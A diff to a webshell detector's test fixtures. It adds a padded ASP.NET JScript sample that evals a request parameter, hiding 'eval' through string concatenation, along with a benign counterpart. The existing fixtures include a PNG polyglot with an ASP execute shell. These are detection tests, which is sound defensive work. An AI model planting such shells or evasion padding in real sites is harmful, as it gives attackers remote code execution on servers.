@@ -139,6 +139,12 @@ POSITIVE = {
         "exhunt_webshell_eval_request",
     ),
     "png_polyglot": ('\x89PNG\r\n\x1a\n....<%execute request("a")%>', "exhunt_webshell_image_polyglot"),
+    # a hidden eval written after 200 KB of padding: the size bound alone had let it pass
+    "jscript_concat_eval_after_padding": (
+        '<%@ Page Language="C#"%><!--' + "x" * (205 << 10) + '--><script language="JScript" runat="server">'
+        'function Page_Load(){this["ev"+"al"](Request.Item["z"],"unsafe");}</script>',
+        "exhunt_webshell_eval_request",
+    ),
 }
 
 NEGATIVE = {
@@ -150,6 +156,8 @@ NEGATIVE = {
     "js_eval_no_server": "<script>eval(location.hash.substr(1))</script>",
     "process_type_name_only": '<%@ Page Language="C#" %><% var n = "System.Diagnostics.Process"; '
     "Response.Write(n + Request.Form[\"x\"]); %>",
+    "concat_eval_in_a_large_page_without_request": '<%@ Page Language="C#" %><!--' + "x" * (205 << 10)
+    + '--><script>var f = window["ev" + "al"];</script>',
     "reflection_without_request": '<%@ Page Language="C#" %><% Type.GetType("System.Diagnostics.Process")'
     '.GetMethod("GetProcesses", Type.EmptyTypes); %>',
 }
